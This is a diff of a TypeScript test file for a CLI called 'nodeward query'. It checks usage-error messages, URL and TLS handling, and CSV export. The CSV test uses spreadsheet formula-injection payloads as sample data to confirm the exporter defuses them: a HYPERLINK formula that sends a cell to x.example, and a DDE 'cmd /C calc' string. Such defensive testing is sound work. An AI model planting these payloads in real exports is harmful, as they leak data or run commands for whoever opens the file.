@@ -1,27 +1,13 @@
 // `nodeward query` as an operator runs it: the real binary against a real collector.
 import test from 'ava';
-import { execFile } from 'node:child_process';
 import { writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
-import { promisify } from 'node:util';
-import { NODEWARD_BIN } from '../helpers/process.js';
+import { runNodeward } from '../helpers/process.js';
 import { ADMIN_TOKEN, READER_TOKEN, startTestCollector, type TestCollector } from '../helpers/collector.js';
 import { api, connect, fp, proc, result } from '../helpers/agent-session.js';
 import { unexpectedProcess } from '../helpers/process-finding.js';
 
-const run = promisify(execFile);
-
-interface Ran { code: number; stdout: string; stderr: string }
-
-async function nodeward(args: string[], env: Record<string, string> = {}): Promise<Ran> {
-  try {
-    const r = await run(process.execPath, [NODEWARD_BIN, ...args], { env: { PATH: process.env.PATH ?? '', ...env }, timeout: 30_000, cwd: '/' });
-    return { code: 0, stdout: r.stdout, stderr: r.stderr };
-  } catch (err) {
-    const e = err as { code: number; stdout: string; stderr: string };
-    return { code: e.code, stdout: e.stdout, stderr: e.stderr };
-  }
-}
+const nodeward = runNodeward;
 
 let tc: TestCollector;
 let conn: string[];
@@ -154,12 +140,17 @@ test('usage errors exit 2 with a clear message; failures to query exit 1', async
     [['query', 'findings', '--url', 'not a url', '--token-file', join(tc.dir, 'reader.token')], /--url "not a url" is not a URL/],
     [['query', 'findings', ...conn.slice(0, 2), '--token-file', join(tc.dir, 'missing.token')], /cannot read the token file .*missing\.token: ENOENT/],
     [['query', 'nodez', ...conn], /unknown command 'nodez'/],
-    [['query'], /Usage: nodeward query/],
+    [['query'], /^nodeward query: needs a command: findings, nodes, summary, processes, baselines \(see nodeward query --help\)$/],
+    [['query', 'findings', ...conn, '--sevrity', 'high'], /^nodeward query findings: unknown option '--sevrity'; did you mean --severity\? \(see nodeward query findings --help\)$/],
+    [['query', 'findings', ...conn, '-o', 'xml'], /^nodeward query findings: option '-o, --output <format>' argument 'xml' is invalid\. Allowed choices are table, json, csv\. \(see nodeward query findings --help\)$/],
+    [['query', 'summary', ...conn, '-o', 'csv'], /Allowed choices are table, json\./],
   ];
   for (const [args, message] of usage) {
     const r = await nodeward(args);
     t.is(r.code, 2, `${args.join(' ')}: ${r.stderr}`);
-    t.regex(r.stderr, message, args.join(' '));
+    t.regex(r.stderr.trimEnd(), message, args.join(' '));
+    t.is(r.stderr.trimEnd().split('\n').length, 1, `a usage error is one line: ${args.join(' ')}`);
+    t.is(r.stdout, '');
   }
   await writeFile(join(tc.dir, 'wrong.token'), 'wrong-token-0123456789abcdef');
   const wrong = await nodeward(['query', 'nodes', '--url', tc.apiUrl, '--token-file', join(tc.dir, 'wrong.token'), '--ca-file', tc.pki.caCert]);
@@ -171,4 +162,87 @@ test('usage errors exit 2 with a clear message; failures to query exit 1', async
   const down = await nodeward(['query', 'nodes', '--url', 'https://127.0.0.1:1', '--token-file', join(tc.dir, 'reader.token')]);
   t.is(down.code, 1);
   t.regex(down.stderr, /connection refused \(is the collector running\? see --url\)/);
+});
+
+/** An RFC 4180 reader, written apart from the writer: quoted fields, doubled quotes, CRLF records. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = '';
+  let i = 0;
+  let quoted = false;
+  while (i < text.length) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') { field += '"'; i += 2; continue; }
+      if (c === '"') { quoted = false; i += 1; continue; }
+      field += c; i += 1; continue;
+    }
+    if (c === '"' && field === '') { quoted = true; i += 1; continue; }
+    if (c === ',') { row.push(field); field = ''; i += 1; continue; }
+    if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i += 2; continue; }
+    if (c === '"' || c === '\r' || c === '\n') throw new Error(`not RFC 4180 at ${i}: ${JSON.stringify(text.slice(i, i + 20))}`);
+    field += c; i += 1;
+  }
+  if (field !== '' || row.length > 0) throw new Error('the last record does not end with CRLF');
+  return rows;
+}
+
+test('-o csv: RFC 4180 with a header row; cells a spreadsheet would run as formulas are defused', async (t) => {
+  const c = await startTestCollector({ nodes: ['node-c'] });
+  t.teardown(() => c.close());
+  await writeFile(join(c.dir, 'reader.token'), `${READER_TOKEN}\n`, { mode: 0o600 });
+  const cc = ['--url', c.apiUrl, '--token-file', join(c.dir, 'reader.token'), '--ca-file', c.pki.caCert];
+  const subjects = ['=HYPERLINK("http://x.example/?"&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', 'plain, with "quotes", and a comma', `esc${ESC}[2Jape`];
+  const a = await connect(c, 'node-c');
+  await a.scan(Date.now(), ['cis-4.2.1'], subjects.map((s) => result('cis-4.2.1', s, 'fail', { severity: 'high' })));
+  a.close();
+  const csv = await nodeward(['query', 'findings', ...cc, '-o', 'csv']);
+  t.is(csv.code, 0, csv.stderr);
+  const rows = parseCsv(csv.stdout);
+  t.deepEqual(rows[0], ['Severity', 'State', 'Node', 'Check', 'Subject', 'Count', 'Last seen', 'Id']);
+  t.is(rows.length, subjects.length + 1);
+  const bySubject = new Map(rows.slice(1).map((r) => [r[4], r]));
+  for (const s of subjects.slice(0, 4)) t.true(bySubject.has(`'${s}`), `formula cell defused: ${s}`);
+  t.true(bySubject.has('plain, with "quotes", and a comma'), 'commas and quotes survive the round trip');
+  t.true(bySubject.has('esc\\x1b[2Jape'), 'control characters are escaped');
+  t.false(csv.stdout.includes(ESC));
+  const row = bySubject.get('plain, with "quotes", and a comma')!;
+  t.deepEqual(row.slice(0, 4), ['high', 'open', 'node-c', 'cis-4.2.1']);
+  t.is(row[5], '1');
+  t.regex(row[7]!, /^[0-9a-f]{32}$/);
+  // An empty answer is still a CSV file: its header row.
+  t.is((await nodeward(['query', 'findings', ...cc, '-o', 'csv', '--q', 'no-such-thing'])).stdout, 'Severity,State,Node,Check,Subject,Count,Last seen,Id\r\n');
+  const nodes = parseCsv((await nodeward(['query', 'nodes', ...cc, '--output', 'csv', '--wide'])).stdout);
+  t.is(nodes[0]![0], 'Node');
+  t.is(nodes[1]![0], 'node-c');
+  t.is(nodes[1]![nodes[0]!.indexOf('Last refused')], '', 'a value the node did not send is empty, not a dash');
+});
+
+test('URLs: no scheme, plain http:// to another machine, and the wrong protocol for the port each get a message that says what to write', async (t) => {
+  const token = ['--token-file', join(tc.dir, 'reader.token'), '--ca-file', tc.pki.caCert];
+  const port = new URL(tc.apiUrl).port;
+  const usage: Array<[string[], Record<string, string>, RegExp]> = [
+    [['query', 'nodes', '--url', 'collector.example:8443', ...token], {}, /^nodeward: --url "collector\.example:8443" has no scheme: write https:\/\/collector\.example:8443 \(the collector's API is HTTPS\)$/],
+    [['query', 'nodes', '--url', 'localhost', ...token], {}, /has no scheme: write https:\/\/localhost /],
+    [['query', 'nodes', ...token], { NODEWARD_URL: `localhost:${port}` }, new RegExp(`^nodeward: NODEWARD_URL "localhost:${port}" has no scheme: write https://localhost:${port} `)],
+    [['query', 'nodes', '--url', 'http://collector.example:8443', ...token], {}, /^nodeward: --url "http:\/\/collector\.example:8443": collector\.example must be reached over https:\/\/: over plain http:\/\/ the API token would cross the network unencrypted .*; write https:\/\/collector\.example:8443$/],
+    [['query', 'nodes', '--url', 'ftp://collector.example', ...token], {}, /the collector's API is reached over https:\/\/, not ftp:\/\//],
+    [['query', 'nodes', '--url', 'not a url', ...token], {}, /--url "not a url" is not a URL: write it as https:\/\/HOST:PORT/],
+  ];
+  for (const [args, env, message] of usage) {
+    const r = await nodeward(args, env);
+    t.is(r.code, 2, `${args.join(' ')}: ${r.stderr}`);
+    t.regex(r.stderr.trimEnd(), message);
+  }
+  // http:// to this machine is allowed (a test collector); to the HTTPS port it says what to write.
+  const plain = await nodeward(['query', 'nodes', '--url', `http://127.0.0.1:${port}`, ...token]);
+  t.is(plain.code, 1);
+  t.is(plain.stderr, `nodeward: error: http://127.0.0.1:${port} closed the connection without an HTTP answer: the collector's API serves HTTPS (unless api.insecure is set); use --url https://127.0.0.1:${port}\n`);
+  const insecure = await startTestCollector({ nodes: ['node-a'], overrides: { 'api.insecure': true } });
+  t.teardown(() => insecure.close());
+  const insecurePort = new URL(insecure.apiUrl).port;
+  const tls = await nodeward(['query', 'nodes', '--url', `https://127.0.0.1:${insecurePort}`, ...token]);
+  t.is(tls.code, 1);
+  t.regex(tls.stderr, new RegExp(`^nodeward: error: https://127\\.0\\.0\\.1:${insecurePort} does not answer in TLS \\(it speaks plain HTTP\\): a test collector with api\\.insecure is reached at http://127\\.0\\.0\\.1:${insecurePort}`));
 });
